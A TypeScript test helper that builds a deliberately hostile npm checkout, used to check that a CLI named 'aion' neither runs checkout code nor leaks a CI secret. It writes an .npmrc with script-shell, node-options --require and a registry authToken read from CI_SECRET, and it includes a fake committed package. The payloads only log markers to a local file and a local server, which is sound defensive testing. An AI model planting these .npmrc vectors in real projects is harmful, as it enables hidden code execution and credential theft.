import { chmodSync, existsSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { onTestFinished } from 'vitest';
import { folderWith } from '../cli/support.ts';

/** What a job has in its environment and no server of a stranger may get. */
export const secret = 'the-secret-of-the-job';

export interface HostileCheckout {
  readonly folder: string;
  /** The environment of the job, with the secret. */
  readonly environment: Readonly<Record<string, string>>;
  /** What ran of the checkout, and the requests with their `Authorization` that its registry got. */
  harm(): readonly string[];
}

interface HostileFiles {
  readonly npmrc: (port: number) => string;
  readonly shell: string;
  readonly module: string;
}

const own: HostileFiles = {
  npmrc: (port) =>
    [
      'script-shell=./evil.sh',
      'node-options=--require ./evil.cjs',
      `registry=http://127.0.0.1:${port}/`,
      `//127.0.0.1:${port}/:_authToken=\${CI_SECRET}`,
      '',
    ].join('\n'),
  shell: '#!/bin/sh\necho "evil.sh ran" >> "$AION_HARM"\nexec /bin/sh "$@"\n',
  module: 'require("node:fs").appendFileSync(process.env.AION_HARM, "evil.cjs ran\\n");\n',
};

/**
 * A checkout with everything that makes npm run code or send secrets: an `.npmrc`, its shell, its module, and a committed package of the same
 * name. Its registry listens on this machine. `files` are further files.
 */
export async function hostileCheckout(
  files: Readonly<Record<string, string>>,
  { npmrc, shell, module }: HostileFiles = own,
): Promise<HostileCheckout> {
  const requests: string[] = [];
  const registry = createServer(({ url, headers }, response) => {
    requests.push(`${url} ${headers.authorization ?? 'without a token'}`);
    response.writeHead(404).end('{}');
  });
  await new Promise<void>((listening) => registry.listen(0, '127.0.0.1', listening));
  onTestFinished(() => void registry.close());
  const { port } = registry.address() as AddressInfo;
  const { version }: { readonly version: string } = JSON.parse(
    readFileSync(join(import.meta.dirname, '../../package.json'), 'utf8'),
  );
  const committed = { name: 'aion-cli', version, bin: { aion: 'evil.cjs' } };
  const program = `#!/usr/bin/env node\n${own.module}`;
  const folder = folderWith({
    '.npmrc': npmrc(port),
    'evil.sh': shell,
    'evil.cjs': module,
    'package.json': JSON.stringify({ name: 'checkout', private: true, dependencies: { 'aion-cli': version } }),
    'node_modules/aion-cli/package.json': JSON.stringify(committed),
    'node_modules/aion-cli/evil.cjs': program,
    'node_modules/aion-cli/cli.cjs': program,
    'node_modules/.bin/aion': program,
    ...files,
  });
  for (const name of ['evil.sh', 'node_modules/aion-cli/evil.cjs', 'node_modules/.bin/aion']) {
    chmodSync(join(folder, name), 0o755);
  }
  const harmFile = join(folderWith({}), 'harm');
  const outside = folderWith({});
  const environment = {
    PATH: process.env['PATH'] ?? '',
    // No settings of the person who tests.
    HOME: outside,
    npm_config_cache: join(outside, 'cache'),
    npm_config_update_notifier: 'false',
    npm_config_fetch_retries: '0',
    CI_SECRET: secret,
    AION_HARM: harmFile,
  };
  const harm = (): readonly string[] => {
    const ran = existsSync(harmFile) ? readFileSync(harmFile, 'utf8').trim().split('\n') : [];
    return [...new Set([...ran, ...requests])];
  };
  return { folder, environment, harm };
}

/** The files of a checkout with a right file, a wrong one and one that isn't formatted. */
export const toolFiles = {
  'tools/wrong.aion': '[{ name --> "A", desc --> "d", link --> "https://x.org" }]\n',
  'right.aion': '[\n  {\n    name --> "A",\n    description --> "d",\n    link --> "https://x.org"\n  }\n]\n',
} as const;
